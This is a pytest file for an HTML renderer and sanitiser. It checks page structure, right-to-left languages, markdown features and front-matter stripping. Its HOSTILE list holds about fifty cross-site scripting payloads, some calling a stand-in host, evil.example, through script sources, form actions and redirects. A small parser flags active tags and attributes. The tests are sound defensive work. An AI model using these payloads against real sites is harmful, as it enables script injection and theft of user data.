"""HTML pages: readable, whole, and with nothing in them that runs."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from locmem.render.html import as_written, sanitised, to_html

PAGE = """\
---
title: Left out
---

## Heading

Some *text* with ~~struck~~ and a note.[^1]

| a | b |
| --- | --- |
| 1 | 2 |

[next](other.md#part) and [away](https://x.example/a.md)

<div class="callout">
<p>Raw <a href="plan.md">HTML</a><br>passes.</p>
</div>

{{ticket.id}}

[^1]: The note.
"""


def body_of(page: str) -> str:
    return page.partition("<body>\n")[2].partition("</body>")[0]


def test_a_page_is_whole_and_in_its_language() -> None:
    page = to_html(PAGE, "Help & more", "es")
    assert page.startswith('<!doctype html>\n<html lang="es" dir="ltr">\n<head>\n<meta charset="utf-8">')
    assert "<title>Help &amp; more</title>" in page
    assert page.endswith("</body>\n</html>\n")
    assert not re.search(r"<(?:link|script)|https?://(?!x\.example)|url\(", page)


@pytest.mark.parametrize(
    "body", ["# Own *one*\n\nText.", "Own one\n===\n", '> <h1 id="a">Own one</h1>', "## Two\n\n# Own one"]
)
def test_a_page_with_a_heading_of_its_own_gets_no_second_one(body: str) -> None:
    page = to_html(body, "Title", "en")
    assert len(re.findall("<h1[ >]", page)) == 1
    assert "<h1>Title" not in page
    assert "<title>Title</title>" in page
    assert "<h1>Title</h1>" in to_html(f"`<h1>`\n\n```\n{body}\n```", "Title", "en")


def test_right_to_left_languages_run_right_to_left() -> None:
    assert '<html lang="ar" dir="rtl">' in to_html("x", "x", "ar")


def test_markdown_with_tables_footnotes_and_raw_html() -> None:
    body = body_of(to_html(PAGE, "T", "en"))
    assert "Left out" not in body
    assert "<h1>T</h1>\n<h2>Heading</h2>" in body
    assert "<s>struck</s>" in body
    assert "<td>2</td>" in body
    assert "The note." in body
    assert '<a href="other.html#part">next</a>' in body
    assert '<a href="https://x.example/a.md">away</a>' in body
    assert '<div class="callout">\n<p>Raw <a href="plan.html">HTML</a><br>passes.</p>\n</div>' in body
    assert "<p>{{ticket.id}}</p>" in body


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script>\n\nalert(1)\n\n</script>",
    "a <script>alert(1)</script> b",
    "<scr<script>ipt>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example><input name=card></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='\u0001javascript:alert(1)'>x</a>",
    "<a href=' JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&colon;alert(1))",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    '<p title=x"onclick=alert(1)>x</p>',
    "<a onclick\n=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "</body><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<b <script>alert(1)</script>",
]

_SAFE = re.compile(r"(?:https?:|mailto:|tel:|[^:]*\Z)", re.IGNORECASE)


class _Active(HTMLParser):
    """Gathers what could run or fetch."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "style", "iframe", "object", "embed", "form", "base", "meta", "link", "svg", "math"):
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(name)
            if name in ("href", "src", "action", "data") and not _SAFE.match(value or ""):
                self.found.append(value or "")


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.parametrize("frame", ["{}", "a\n\n{}\n\nb", "> - {}", "<div>\n{}\n</div>"])
def test_nothing_active_survives(payload: str, frame: str) -> None:
    body = body_of(to_html(frame.format(payload), "T", "en"))
    active = _Active()
    active.feed(body)
    active.close()
    assert active.found == []
    assert "<script" not in body.lower()


def test_scripts_go_with_their_content_and_the_rest_stays() -> None:
    assert sanitised("<p>a<script>alert(1)</script>b</p>") == "<p>ab</p>"
    assert sanitised("<p>a<form><input><b>c</b></form>d") == "<p>ad</p>"


def test_tags_are_balanced() -> None:
    assert sanitised("<div><p>a</div></p><b>c") == "<div><p>a</p></div><b>c</b>"


def test_text_and_attributes_read_the_same() -> None:
    body = '<p title="a &quot;b&quot; &lt;c&gt;">x &amp; y &lt;z&gt; \u00a0é</p>'
    assert sanitised(body) == body


def test_the_marker_of_a_call_out_is_not_shown() -> None:
    page = to_html("> [!NOTE]\n> Lea esto.\n", "Ayuda", "es")
    assert '<blockquote class="note">\n<p>Lea esto.</p>' in page
    assert "[!NOTE]" not in page


@pytest.mark.parametrize(
    "front",
    [
        "---\ntitle: Secret {{ x }}\n---\n",
        "---\r\ntitle: Secret\r\n...\r\n",
        "+++\ntitle = 'Secret'\n+++\n",
        '{"title": "Secret"}\n',
    ],
    ids=["YAML", "YAML, CRLF", "TOML", "JSON"],
)
def test_front_matter_is_no_text_of_the_page(front: str) -> None:
    assert as_written(f"{front}\nText\n") == "<p>Text</p>\n"
